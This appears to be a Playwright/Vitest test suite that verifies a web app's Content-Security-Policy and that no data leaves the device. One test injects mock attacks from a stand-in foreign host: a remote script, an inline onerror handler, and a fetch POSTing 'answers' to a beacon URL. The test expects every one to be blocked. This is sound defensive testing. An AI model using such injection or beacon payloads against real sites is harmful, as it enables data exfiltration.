import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { foreignRequests, openContext, sharedBrowser } from './harness/chromium';

const baseUrl = inject('baseUrl');
const origin = new URL(baseUrl).origin;
const FOREIGN = 'http://127.0.0.2:9';
const browser = await sharedBrowser();

type Violation = { directive: string; blocked: string };
declare global {
  interface Window {
    cspViolations: Violation[];
    pwnedBy?: string[];
  }
}

/** Collects Content-Security-Policy violations from the first moment of every page. */
async function watchViolations(context: BrowserContext) {
  await context.addInitScript(() => {
    window.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
  });
}
const violations = (page: Page) => page.evaluate(() => window.cspViolations);

/** Serves hostile content from another origin, so anything the policy lets through really runs. */
async function serveForeignContent(context: BrowserContext) {
  const hits: string[] = [];
  await context.route(`${FOREIGN}/**`, (route) => {
    const url = route.request().url();
    hits.push(url);
    const body = url.endsWith('.css') ? 'body { display: none }' : "(window.pwnedBy ??= []).push('remote script');";
    return route.fulfill({ status: 200, contentType: url.endsWith('.css') ? 'text/css' : 'text/javascript', body });
  });
  return hits;
}

const inlineHandlers = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName}[${a.name}]`),
    ),
  );

describe('privacy: nothing leaves the device', () => {
  it('carries a Content-Security-Policy that allows only this origin', async () => {
    const html = await (await fetch(baseUrl)).text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html);
    expect(meta, 'the CSP meta tag is in the built page').not.toBeNull();
    const policy = Object.fromEntries(meta![1]!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(' ')]));
    // The page's own inline code (the early preload) is allowed by its hash, and nothing else inline is.
    const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => `'sha256-${createHash('sha256').update(m[1]!).digest('base64')}'`);
    expect(inline.length, 'the page has its early preload inline').toBe(1);
    expect(policy).toEqual({
      'default-src': "'self'",
      'script-src': ["'self'", ...inline].join(' '),
      'style-src': "'self'",
      'img-src': "'self' data: blob:",
      'font-src': "'self'",
      'connect-src': "'self'",
      'worker-src': "'self'",
      'manifest-src': "'self'",
      'object-src': "'none'",
      'base-uri': "'none'",
      'form-action': "'none'",
    });
    expect(html.indexOf('Content-Security-Policy'), 'the policy comes before any script').toBeLessThan(html.indexOf('<script'));
    expect(html, 'no inline event handlers in the page').not.toMatch(/\son[a-z]+\s*=/i);
  });

  it('makes no request to another origin during a journey over every page in both languages', async () => {
    const { context, page, requests, errors } = await openContext(browser, { locale: 'en-GB' });
    await watchViolations(context);
    const routes = ['', 'assess', 'results', 'assessments', 'workshop', 'about', 'no-such-page'];
    await page.goto(baseUrl);
    await page.getByRole('button', { name: 'Start a new assessment' }).click();
    await page.reload(); // reading the saved state back is part of the journey
    for (const switchTo of ['中文', 'English']) {
      for (const route of routes) {
        await page.goto(`${baseUrl}#/${route}`);
        await page.locator('h1').waitFor();
        expect(await inlineHandlers(page), `inline handlers on #/${route}`).toEqual([]);
      }
      await page.getByRole('button', { name: new RegExp(switchTo) }).click();
      await expect.poll(() => page.getAttribute('html', 'lang')).toBe(switchTo === '中文' ? 'zh-CN' : 'en');
    }
    // Let the service worker finish precaching: its requests count too.
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    expect(requests.length, 'the journey did load pages').toBeGreaterThan(10);
    expect(foreignRequests(requests, origin)).toEqual([]);
    expect(await violations(page), 'the policy never got in the app’s way').toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('blocks scripts, styles, fonts, images and connections injected from another origin', async () => {
    const { context, page } = await openContext(browser, { locale: 'en-GB' });
    await watchViolations(context);
    const hits = await serveForeignContent(context);
    await page.goto(baseUrl);
    await page.locator('h1').waitFor();

    const outcome = await page.evaluate(async (foreign) => {
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
      const script = document.createElement('script');
      script.src = `${foreign}/x.js`;
      document.head.append(script);
      const inline = document.createElement('script');
      inline.textContent = "(window.pwnedBy ??= []).push('inline script');";
      document.head.append(inline);
      add(`<img alt="" src="data:image/png;base64,broken" onerror="(window.pwnedBy ??= []).push('inline handler')">`);
      add(`<img alt="" src="${foreign}/pixel.png">`);
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${foreign}/x.css`;
      document.head.append(link);
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      const fetched = await fetch(`${foreign}/beacon`, { method: 'POST', body: 'answers' }).then(
        () => 'sent',
        () => 'refused',
      );
      const font = await new FontFace('Remote', `url(${foreign}/f.woff2)`).load().then(
        () => 'loaded',
        () => 'refused',
      );
      await new Promise((r) => setTimeout(r, 500));
      return { fetched, font, pwned: window.pwnedBy ?? [], display: getComputedStyle(document.body).display };
    }, FOREIGN);

    expect(outcome.pwned, 'no injected code ran').toEqual([]);
    expect(outcome.fetched).toBe('refused');
    expect(outcome.font).toBe('refused');
    expect(outcome.display, 'neither the remote nor the inline stylesheet applied').not.toBe('none');
    expect(hits, 'nothing reached the other origin').toEqual([]);
    const blocked = new Set((await violations(page)).map((v) => v.directive));
    for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'connect-src', 'font-src']) {
      expect(blocked, `a ${directive} violation was reported`).toContain(directive);
    }
    await context.close();
  });

  it('lets code change styles at run time through the CSSOM, as React and chart.js do, under the policy', async () => {
    // A page at a made-up origin with the app's own policy, the app's own chart.js and a radar chart.
    const html = await (await fetch(baseUrl)).text();
    const cspMeta = /<meta http-equiv="Content-Security-Policy"[^>]*>/.exec(html)![0];
    const chartDist = dirname(createRequire(import.meta.url).resolve('chart.js'));
    const chartJs = readFileSync(join(chartDist, 'chart.umd.min.js'), 'utf8');
    const probe = `
      document.getElementById('wrap').style.width = '300px';
      const el = document.getElementById('box');
      el.style.setProperty('width', '123px');
      el.style.color = 'rgb(1, 2, 3)';
      window.probeChart = new Chart(document.getElementById('chart'), {
        type: 'radar',
        data: { labels: ['a', 'b', 'c', 'd'], datasets: [{ label: 'x', data: [1, 3, 2, 4], fill: true }] },
        options: { responsive: true, animation: false },
      });`;
    const { context, page } = await openContext(browser);
    await watchViolations(context);
    const site = 'http://chuhai.test';
    await context.route(`${site}/**`, (route) => {
      const path = new URL(route.request().url()).pathname;
      if (path === '/chart.js') return route.fulfill({ contentType: 'text/javascript', body: chartJs });
      if (path === '/probe.js') return route.fulfill({ contentType: 'text/javascript', body: probe });
      return route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><html lang="en"><head><meta charset="utf-8">${cspMeta}<title>probe</title></head>
          <body><div id="box">box</div><div id="wrap"><canvas id="chart" role="img" aria-label="chart"></canvas></div>
          <script src="/chart.js"></script><script src="/probe.js"></script></body></html>`,
      });
    });
    await page.goto(`${site}/`);
    await page.waitForFunction(() => (window as unknown as { probeChart?: unknown }).probeChart !== undefined);
    const result = await page.evaluate(() => {
      const box = document.getElementById('box')!;
      const canvas = document.getElementById('chart') as HTMLCanvasElement;
      const pixels = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height).data;
      let painted = 0;
      for (let i = 3; i < pixels.length; i += 4) if (pixels[i]! > 0) painted++;
      return { width: getComputedStyle(box).width, color: getComputedStyle(box).color, canvasWidth: canvas.style.width, painted };
    });
    expect(await violations(page)).toEqual([]);
    expect(result.width).toBe('123px');
    expect(result.color).toBe('rgb(1, 2, 3)');
    expect(result.canvasWidth, 'chart.js sized its canvas').toMatch(/px$/);
    expect(result.painted, 'the chart was drawn').toBeGreaterThan(100);
    await context.close();
  });
});
